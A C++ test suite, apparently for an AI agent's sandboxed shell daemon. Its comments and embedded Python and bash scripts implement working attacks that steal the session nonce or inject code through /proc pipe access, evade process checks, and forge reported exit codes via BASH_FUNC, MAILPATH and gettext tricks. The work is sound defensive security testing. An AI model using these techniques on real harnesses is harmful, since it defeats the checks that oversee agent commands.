// Outside review 5 of the hook given back after a bypassed `exec bash` (commit 4103d7e,
// docs/security.md "The hook given back after a bypassed `exec bash` reaches only the shell").
//
// The wall rests on one look: "no other live process in the whole session (zombies excepted)".
// `CountOtherProcesses` (backend/readiness/foreground_inspector.cc) skips every process whose
// /proc/<pid>/stat says `Z`. A thread-group leader that ended with the raw exit(2) system call
// (only its own thread, not exit_group) shows `Z` while its other threads run on, hold
// descriptors and read /proc: the look counts a live program as dead.
//
// Attack (ZombieLeaderThief): a background job of the first shell whose main thread exits that
// way. Its other thread watches /proc/<shell>/fd/11 of the image `exec $SHELL` starts (a file the
// session's uid can read, so dumpable in every mode) and, as soon as the typed loader's pipe
// appears, opens it through /proc and writes its own "nonce" line and NUL-ended code first. The
// loader evals that code in the shell: it makes a second fresh pipe exactly as the loader does,
// so the daemon's second look (shell alone, asleep off the terminal, a new anonymous pipe at 11)
// passes and the daemon writes the real nonce and bootstrap into it; the injected code copies the
// nonce to a file and evals the real bootstrap, which execs the unreadable copy as designed.
// The hook is back (exact exit codes), and a program of the session holds the nonce: a program
// prints a marker with it and exits, the shell then waits in its own `read` builtin, and the send
// settles with `exitCode 42` (the same forgery with a nonce nobody has settles nothing: the
// control). ZombieLeaderTee needs no injection: it copies the daemon's write with tee(2).
//
// PidHopper hides without threads: each generation forks and exits, and a walk that reads the
// reaper's children before a hop and the old process (a zombie) after it misses the new one.
//
// A second hole needs no hidden process: the daemon types its loader into any new image of bash,
// a script exec'd as the shell included (kFakeShell), which keeps the nonce in its own `eval`.
#include <gtest/gtest.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <optional>
#include <string>

#include "tests/support/daemon_fixture.h"
#include "tests/support/files.h"

namespace ptybox::testing {
namespace {

// argv[1]: a per-run tag. Files in /tmp of the session: <tag>.ready once its main thread is a
// zombie, <tag>.log what it did.
constexpr const char* kZombieLeaderThief = R"PY(import ctypes, os, sys, threading, time
tag = sys.argv[1]
shell = os.getppid()
code = open("inject.sh", "rb").read().replace(b"TAG", tag.encode())
payload = b"x\n" + code + b"\0"
log = open("/tmp/%s.log" % tag, "ab", buffering=0)
def link():
    try:
        return os.readlink("/proc/%d/fd/11" % shell)
    except OSError:
        return ""
def work():
    # /proc/self is the thread group: its stat is the leader's.
    while open("/proc/self/stat").read().rsplit(")", 1)[1].split()[0] != "Z":
        time.sleep(0.001)
    seen = link()
    log.write(b"leader is a zombie; fd 11 was [" + seen.encode() + b"]\n")
    open("/tmp/%s.ready" % tag, "w").close()
    deadline = time.time() + 120
    while time.time() < deadline:
        now = link()
        if now.startswith("pipe:") and now != seen:
            try:
                fd = os.open("/proc/%d/fd/11" % shell, os.O_WRONLY | os.O_NONBLOCK)
                os.write(fd, payload)
                log.write(b"injected into " + now.encode() + b"\n")
            except OSError as e:
                log.write(b"failed: " + str(e).encode() + b"\n")
            break
        time.sleep(0.0002)
    os._exit(0)
threading.Thread(target=work).start()
ctypes.CDLL(None).syscall(60, 0)  # SYS_exit: this thread alone; the process lives on
)PY";

// The same zombie leader, reading only: its thread opens the loader's pipe through /proc and
// tee(2)s what the daemon writes (a copy; the shell still reads it all), then writes the first
// 32 hex digits it saw to /tmp/<tag>.nonce. No code is injected.
constexpr const char* kZombieLeaderTee = R"PY(import ctypes, os, re, sys, threading, time
tag = sys.argv[1]
shell = os.getppid()
libc = ctypes.CDLL(None, use_errno=True)
log = open("/tmp/%s.log" % tag, "ab", buffering=0)
def link():
    try:
        return os.readlink("/proc/%d/fd/11" % shell)
    except OSError:
        return ""
def work():
    while open("/proc/self/stat").read().rsplit(")", 1)[1].split()[0] != "Z":
        time.sleep(0.001)
    seen = link()
    open("/tmp/%s.ready" % tag, "w").close()
    r, w = os.pipe()
    deadline = time.time() + 120
    fd = -1
    while time.time() < deadline and fd < 0:
        now = link()
        if now.startswith("pipe:") and now != seen:
            try:
                fd = os.open("/proc/%d/fd/11" % shell, os.O_RDONLY | os.O_NONBLOCK)
            except OSError as e:
                log.write(b"failed: " + str(e).encode() + b"\n")
                os._exit(0)
        else:
            time.sleep(0.0002)
    got = b""
    while time.time() < deadline:
        n = libc.tee(fd, w, 65536, 2)  # SPLICE_F_NONBLOCK
        if n > 0:
            got = os.read(r, 65536)
            if len(got) > 40:  # more than the here-string's line
                break
            while True:  # drain the copy of a short read; the next tee copies again
                try:
                    os.set_blocking(r, False)
                    os.read(r, 65536)
                except OSError:
                    break
    log.write(b"teed %d bytes: " % len(got) + got[:80] + b"\n")
    m = re.search(rb"[0-9a-f]{32}", got)
    open("/tmp/%s.nonce" % tag, "wb").write((m.group(0) if m else b"none") + b"\n")
    os._exit(0)
threading.Thread(target=work).start()
libc.syscall(60, 0)
)PY";

// A job that never stays one process: each generation forks and exits, so a walk of
// /proc/<pid>/task/*/children that reads the reaper's list before a hop and the old process's
// stat after it (a zombie: skipped) misses the new one. Once it sees the loader's pipe it writes
// the injected code as zthief.py does and exits. argv: tag, the shell's pid.
constexpr const char* kPidHopper = R"PY(import os, sys, time
tag, shell = sys.argv[1], int(sys.argv[2])
code = open("inject.sh", "rb").read().replace(b"TAG", tag.encode())
payload = b"x\n" + code + b"\0"
def link():
    try:
        return os.readlink("/proc/%d/fd/11" % shell)
    except OSError:
        return ""
seen = link()
open("/tmp/%s.ready" % tag, "w").close()
hops = 0
deadline = time.time() + 60
while time.time() < deadline:
    now = link()
    if now.startswith("pipe:") and now != seen:
        try:
            fd = os.open("/proc/%d/fd/11" % shell, os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, payload)
            open("/tmp/%s.log" % tag, "a").write("injected after %d hops\n" % hops)
        except OSError as e:
            open("/tmp/%s.log" % tag, "a").write("failed %s\n" % e)
        os._exit(0)
    hops += 1
    if os.fork():
        os._exit(0)
os._exit(0)
)PY";

// What the thief makes the loader eval: the loader's own pipe dance again (a fresh pipe at 11,
// read-write), then the daemon's nonce goes to a file the session can read, then the daemon's
// real bootstrap runs.
constexpr const char* kInjected =
    R"SH(\exec 11<<<''; \exec 11<>/proc/self/fd/11; IFS= \read -r -u 11 __ptybox_n; IFS= \read -r -t 10 -u 11 __ptybox_n; IFS= \read -r -d '' -t 10 -u 11 __ptybox_c; \exec 11<&-; \printf '%s\n' "$__ptybox_n" > /tmp/TAG.nonce; \eval "$__ptybox_c")SH";

// argv[1]: the tag. Prints a marker with the nonce the injected code left, exit code 42.
constexpr const char* kForge =
    R"SH(printf '\033]6973;%s;42;%s\a$ ' "$(cat "/tmp/$1.nonce")" "'/forged'")SH";

// A bash script run as the shell (`exec bash fake_shell.sh TAG`, or `exec ./tool` for a file
// starting `#!/bin/bash`): the kernel shows a new image of the bash ptybox starts, which is all
// the trigger asks. It reads lines with readline (`read -e`: raw mode, as an interactive bash)
// and evals them; its `eval` function (a backslash stops aliases only) keeps the nonce the
// loader read before running the daemon's bootstrap, which execs the unreadable copy as
// designed.
constexpr const char* kFakeShell = R"SH(#!/bin/bash
tag=$1
eval() { printf '%s\n' "$__ptybox_n" > "/tmp/$tag.nonce"; builtin eval "$@"; }
while IFS= read -e -r -p 'fake$ ' line; do builtin eval "$line"; done
)SH";

// A program the agent execs as the shell that execs a plain interactive `bash` (command line
// "bash", no script) with an `eval` function in its environment (BASH_FUNC_eval%%), which bash
// imports before any rc file: a command-line check alone would not stop the attack above.
constexpr const char* kFunctionWrapper = R"PY(import os, sys
fn = "() { printf '%%s\\n' \"$__ptybox_n\" > /tmp/%s.nonce; builtin eval \"$@\"; }" % sys.argv[1]
os.execve("/bin/bash", ["bash"], dict(os.environ, **{"BASH_FUNC_eval%%": fn}))
)PY";

// Review 6. ImageRefusal lists the variables that run code at bash's start or around its
// prompts, but not MAILPATH/MAILCHECK: before each primary prompt (after PROMPT_COMMAND, before
// PS1 is decoded) an interactive bash checks its mail files, and a file whose mtime rose prints
// MAILPATH's message after parameter expansion, command substitution included. The substitution's
// status becomes `$?`, which the hook's PS1 reports. A program the agent execs as the shell execs
// a plain `bash` (command line "bash") with MAILCHECK=0 and MAILPATH naming a log file whose
// mtime it set in the future (bash remembers its own start time, not the file's, so the check
// fires at once, in every image); the message's substitution pushes the mtime on by a second and
// exits 42, so every send of the session reports exitCode 42. The variables reach the unreadable
// copy the bootstrap execs, and the substitution runs as that copy, which holds the nonce.
// argv[1]: the tag.
constexpr const char* kMailWrapper = R"PY(import os, sys
log = "/tmp/%s.log" % sys.argv[1]
open(log, "w").write("x\n")
os.utime(log, (946684800, 4102444800))  # read in 2000, written in 2100
msg = "$(touch -m -d @$(($(stat -c %%Y %s)+1)) %s; exit 42)" % (log, log)
os.execve("/bin/bash", ["bash"], dict(os.environ, MAILCHECK="0", MAILPATH=log + "?" + msg))
)PY";

// Review 6. ReadProcessFile stops at 256 KiB and ImageRefusal checks what it got: an
// environment (or a command line) longer than that hides what follows. The function wrapper
// above, with 300 KiB of harmless variables before its `eval` function; and bash started with
// 100000 `-i` before a script (fake_shell.sh) as its argument. argv[1]: the tag.
constexpr const char* kPaddedFunctionWrapper = R"PY(import os, sys
fn = "() { printf '%%s\\n' \"$__ptybox_n\" > /tmp/%s.nonce; builtin eval \"$@\"; }" % sys.argv[1]
env = dict(os.environ)
for i in range(3):
    env["PTYBOX_PAD%d" % i] = "x" * 100000
env["BASH_FUNC_eval%%"] = fn
os.execve("/bin/bash", ["bash"], env)
)PY";
constexpr const char* kPaddedArguments = R"PY(import os, sys
os.execv("/bin/bash", ["bash"] + ["-i"] * 100000 + ["fake_shell.sh", sys.argv[1]])
)PY";

// The same without MAILPATH: MAIL names the file and bash prints its own message, "You have new
// mail in $_", translated through gettext and then expanded. LANGUAGE (not refused) reaches a
// catalog the program wrote under /tmp by a relative path (glibc follows `..` in it for a
// program that is not set-uid), whose translation is the same substitution. argv[1]: the tag.
constexpr const char* kMailCatalogWrapper = R"PY(import os, struct, sys
tag = sys.argv[1]
d = "/tmp/%s.l10n/xx/LC_MESSAGES" % tag
os.makedirs(d, exist_ok=True)
code = b"$(touch -m -d @$(($(stat -c %Y $_)+1)) $_; exit 42)"
pairs = sorted([(b"", b"Content-Type: text/plain; charset=UTF-8\n"),
                (b"You have mail in $_", code), (b"You have new mail in $_", code)])
n = len(pairs)
ids = b"".join(k + b"\0" for k, _ in pairs)
strs = b"".join(v + b"\0" for _, v in pairs)
start = 28 + 16 * n
table_o, table_t, at = [], [], start
for k, _ in pairs:
    table_o.append((len(k), at)); at += len(k) + 1
for _, v in pairs:
    table_t.append((len(v), at)); at += len(v) + 1
mo = struct.pack("<7I", 0x950412de, 0, n, 28, 28 + 8 * n, 0, 0)
mo += b"".join(struct.pack("<2I", *e) for e in table_o + table_t) + ids + strs
open(d + "/bash.mo", "wb").write(mo)
box = "/tmp/%s.mbox" % tag
open(box, "w").write("x\n")
os.utime(box, (946684800, 4102444800))
env = dict(os.environ, MAILCHECK="0", MAIL=box, LANG="C.UTF-8", LANGUAGE="../../../../../../../tmp/%s.l10n/xx" % tag)
env.pop("MAILPATH", None)
os.execve("/bin/bash", ["bash"], env)
)PY";

// Where the shell runs non-dumpable: what the attack saved holds no nonce (`report` has its
// "nonce file:" line) and the forgery while the shell read (`forge`) did not report 42.
void ExpectNothingLeaked(const std::string& report, bool forged, const Json& forge) {
  const size_t at = report.find("nonce file:");
  ASSERT_NE(at, std::string::npos) << report;
  const std::string leaked = report.substr(std::min(report.size(), at + 12), 32);
  EXPECT_FALSE(leaked.size() == 32 &&
               leaked.find_first_not_of("0123456789abcdef") == std::string::npos)
      << report;
  EXPECT_FALSE(forged) << forge.dump();
}

class RebootstrapAttackTest : public ::testing::TestWithParam<std::string> {
 protected:
  static void SetUpTestSuite() {
    daemon_ = new Daemon();
    std::ofstream(daemon_->workspace() / "zthief.py") << kZombieLeaderThief;
    std::ofstream(daemon_->workspace() / "inject.sh") << kInjected;
    std::ofstream(daemon_->workspace() / "hopper.py") << kPidHopper;
    std::ofstream(daemon_->workspace() / "ztee.py") << kZombieLeaderTee;
    std::ofstream(daemon_->workspace() / "forge.sh") << kForge;
    std::ofstream(daemon_->workspace() / "fake_shell.sh") << kFakeShell;
    std::ofstream(daemon_->workspace() / "wrap.py") << kFunctionWrapper;
    std::ofstream(daemon_->workspace() / "mailwrap.py") << kMailWrapper;
    std::ofstream(daemon_->workspace() / "mailcatalog.py") << kMailCatalogWrapper;
    std::ofstream(daemon_->workspace() / "padwrap.py") << kPaddedFunctionWrapper;
    std::ofstream(daemon_->workspace() / "padargs.py") << kPaddedArguments;
    std::filesystem::permissions(daemon_->workspace() / "fake_shell.sh",
                                 std::filesystem::perms::owner_exec |
                                     std::filesystem::perms::group_exec |
                                     std::filesystem::perms::others_exec,
                                 std::filesystem::perm_options::add);
  }
  static void TearDownTestSuite() {
    delete daemon_;
    daemon_ = nullptr;
  }

  std::string OpenWithTestHome(std::optional<TempDir>& home) {
    return OpenBashSession(client_, GetParam(), home);
  }

  void RunZombieAttack(const std::string& script);
  void ScriptAttack(const std::string& change);

  static Daemon* daemon_;
  RpcClient client_{daemon_->socket()};
};

Daemon* RebootstrapAttackTest::daemon_ = nullptr;

// Fails today in the confined modes of a root daemon (the wall's claim); elsewhere the nonce is
// in dumpable memory anyway (a documented limit) and the test only records what happened.
TEST_P(RebootstrapAttackTest, AZombieLeadersThreadNeverFeedsTheLoader) {
  RunZombieAttack("zthief.py");
}

// The reading variant: no code injected, the shell reads everything; the thief's copy races the
// shell's one-byte reads for the nonce's first bytes.
TEST_P(RebootstrapAttackTest, AZombieLeadersThreadNeverCopiesTheNonce) {
  RunZombieAttack("ztee.py");
}

// A background job whose leader is a zombie (`script`: zthief.py or ztee.py) through `exec
// $SHELL`, the send that gives the hook back, and a forgery with what it kept.
void RebootstrapAttackTest::RunZombieAttack(const std::string& script) {
  const bool closed = GetParam() != "danger-full-access" && ::geteuid() == 0;
  const Json slow{{"silenceMs", 20000}, {"timeoutMs", 30000}};
  std::optional<TempDir> home;
  const std::string id = OpenWithTestHome(home);
  const std::string tag = "zthief-" + std::to_string(::getpid()) + "-" + GetParam();
  Json r = Send(client_, id,
                "python3 " + script + " " + tag + " & while [ ! -e /tmp/" + tag +
                    ".ready ]; do sleep 0.01; done; (exit 3)\n",
                slow);
  ASSERT_EQ(r["exitCode"], 3) << r.dump();
  // Control: the same forgery with a nonce nobody was given reports no exit code.
  r = Send(client_, id, "echo 0123456789abcdef0123456789abcdef > /tmp/" + tag + ".nonce\n", slow);
  ASSERT_EQ(r["exitCode"], 0) << r.dump();
  r = Send(client_, id, "sh forge.sh " + tag + "; read -r x; (exit 5)\n",
           Json{{"silenceMs", 4000}, {"timeoutMs", 30000}});
  EXPECT_NE(r["exitCode"], 42) << r.dump();
  r = Send(client_, id, "x\n", Json{{"silenceMs", 4000}, {"timeoutMs", 30000}});
  EXPECT_EQ(r["exitCode"], 5) << r.dump();
  r = Send(client_, id, "rm /tmp/" + tag + ".nonce; exec $SHELL\n", slow);
  EXPECT_EQ(r["waitReason"], "stdin_read") << r.dump();
  // The rebootstrap runs at the start of this send, with the thief's thread alive.
  r = Send(client_, id, "echo one; (exit 4)\n", slow);
  const Json after_exec = r;
  // What the thief and the injected code did.
  r = Send(
      client_, id,
      "cat /tmp/" + tag + ".log; echo \"nonce file: $(cat /tmp/" + tag + ".nonce 2>/dev/null)\"\n",
      slow);
  const std::string report = r["viewport"].is_string() ? r["viewport"].get<std::string>() : "";
  std::cout << "[ attack    ] exec $SHELL then send: " << after_exec.dump() << "\n"
            << "[ attack    ] thief: " << report << "\n";
  // A program of the session forges while the shell itself reads (its own `read` builtin).
  // A program (not the shell) prints the marker with the leaked nonce and exits; the shell then
  // reads with its own `read` builtin.
  const std::string forge = "sh forge.sh " + tag + "; read -r x; (exit 5)\n";
  r = Send(client_, id, forge, Json{{"silenceMs", 4000}, {"timeoutMs", 30000}});
  std::cout << "[ attack    ] forge while the shell reads: " << r.dump() << "\n";
  const bool forged = r["exitCode"] == 42;
  Send(client_, id, "x\n", Json{{"silenceMs", 4000}, {"timeoutMs", 30000}});
  if (closed) {
    if (script == "zthief.py") {
      EXPECT_EQ(report.find("injected into"), std::string::npos) << report;
    }
    ExpectNothingLeaked(report, forged, r);
  }
}

// The walk itself can miss a process that hops (fork, exit) all the time: the typing look passes
// when it reads the reaper's children before a hop and the old process after it. Records how
// many sends it took; fails where the injection worked in a root daemon's confined modes.
TEST_P(RebootstrapAttackTest, APidHoppingJobNeverFeedsTheLoader) {
  const bool closed = GetParam() != "danger-full-access" && ::geteuid() == 0;
  const Json slow{{"silenceMs", 20000}, {"timeoutMs", 30000}};
  std::optional<TempDir> home;
  const std::string id = OpenWithTestHome(home);
  const std::string tag = "hop-" + std::to_string(::getpid()) + "-" + GetParam();
  Json r = Send(client_, id,
                "python3 hopper.py " + tag + " $$ & while [ ! -e /tmp/" + tag +
                    ".ready ]; do sleep 0.01; done; exec $SHELL\n",
                slow);
  int sends = 0;
  std::string log;
  for (; sends < 200; ++sends) {
    r = Send(client_, id, "cat /tmp/" + tag + ".log 2>/dev/null; (exit 4)\n", slow);
    log = r["viewport"].is_string() ? r["viewport"].get<std::string>() : "";
    if (log.find("injected") != std::string::npos || log.find("failed") != std::string::npos) break;
  }
  std::cout << "[ attack    ] after " << sends << " sends: " << r.dump() << "\n";
  r = Send(client_, id, "echo \"nonce file: $(cat /tmp/" + tag + ".nonce 2>/dev/null)\"\n", slow);
  const std::string report = r["viewport"].is_string() ? r["viewport"].get<std::string>() : "";
  std::cout << "[ attack    ] " << report << "\n";
  if (closed) {
    EXPECT_EQ(log.find("injected"), std::string::npos) << log;
  }
}

// Fails today in the confined modes of a root daemon: the daemon types its loader into any image
// of bash, a script included, and writes the nonce for it.
TEST_P(RebootstrapAttackTest, AScriptExecdAsTheShellNeverGetsTheNonce) {
  // `exec bash script`, and `exec $SHELL` with SHELL naming a `#!/bin/bash` file.
  for (const std::string change :
       {"exec bash fake_shell.sh", "SHELL=$PWD/fake_shell.sh; exec $SHELL",
        "exec python3 wrap.py"}) {
    SCOPED_TRACE(change);
    ScriptAttack(change);
  }
}

// Review 6: the same scripts behind 256 KiB of environment or of `-i` arguments, which the
// image check does not read. Fails today in the confined modes of a root daemon.
TEST_P(RebootstrapAttackTest, APaddedImageNeverGetsTheNonce) {
  for (const std::string change : {"exec python3 padwrap.py", "exec python3 padargs.py"}) {
    SCOPED_TRACE(change);
    ScriptAttack(change);
  }
}

void RebootstrapAttackTest::ScriptAttack(const std::string& change) {
  const bool closed = GetParam() != "danger-full-access" && ::geteuid() == 0;
  const Json slow{{"silenceMs", 20000}, {"timeoutMs", 30000}};
  const Json quick{{"silenceMs", 3000}, {"timeoutMs", 30000}};
  std::optional<TempDir> home;
  const std::string id = OpenWithTestHome(home);
  const std::string tag = "fake-" + std::to_string(::getpid()) + "-" + GetParam();
  Json r = Send(client_, id, change + " " + tag + "\n", quick);
  std::cout << "[ attack    ] " << change << ": " << r.dump() << "\n";
  // The rebootstrap runs at the start of this send: the script evals the loader.
  r = Send(client_, id, "echo one; (exit 4)\n", slow);
  std::cout << "[ attack    ] next send: " << r.dump() << "\n";
  r = Send(client_, id, "echo \"nonce file: $(cat /tmp/" + tag + ".nonce 2>/dev/null)\"\n", slow);
  const std::string report = r["viewport"].is_string() ? r["viewport"].get<std::string>() : "";
  std::cout << "[ attack    ] " << report << "\n";
  r = Send(client_, id, "sh forge.sh " + tag + "; read -r x; (exit 5)\n", quick);
  std::cout << "[ attack    ] forge while the shell reads: " << r.dump() << "\n";
  const bool forged = r["exitCode"] == 42;
  Send(client_, id, "x\n", quick);
  if (closed) {
    ExpectNothingLeaked(report, forged, r);
  }
}

// Review 6: a MAILPATH message's command substitution sets `$?` before the hook's PS1 reads it.
// Fails today in every mode, root and ptybox-ci (the image's environment passes ImageRefusal):
// the hook is back, and `(exit 4)`, `true`, `(exit 7)` all report 42.
TEST_P(RebootstrapAttackTest, AMailPathMessageNeverSetsTheReportedStatus) {
  const Json slow{{"silenceMs", 20000}, {"timeoutMs", 30000}};
  for (const std::string wrapper : {"mailwrap.py", "mailcatalog.py"}) {
    SCOPED_TRACE(wrapper);
    std::optional<TempDir> home;
    const std::string id = OpenWithTestHome(home);
    const std::string tag = "mail-" + std::to_string(::getpid()) + "-" + GetParam();
    Json r = Send(client_, id, "exec python3 " + wrapper + " " + tag + "\n",
                  Json{{"silenceMs", 3000}, {"timeoutMs", 30000}});
    std::cout << "[ attack    ] exec python3 " << wrapper << ": " << r.dump() << "\n";
    // The rebootstrap runs at the start of this send. Exit codes must stay exact or null.
    for (const auto& [line, status] : std::initializer_list<std::pair<const char*, int>>{
             {"echo one; (exit 4)\n", 4}, {"true\n", 0}, {"(exit 7)\n", 7}}) {
      r = Send(client_, id, line, slow);
      std::cout << "[ attack    ] " << line << "  -> " << r.dump() << "\n";
      EXPECT_TRUE(r["exitCode"].is_null() || r["exitCode"] == status) << line << r.dump();
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Modes, RebootstrapAttackTest,
                         ::testing::Values("read-only", "workspace-write", "danger-full-access"),
                         ModeTestName);

}  // namespace
}  // namespace ptybox::testing
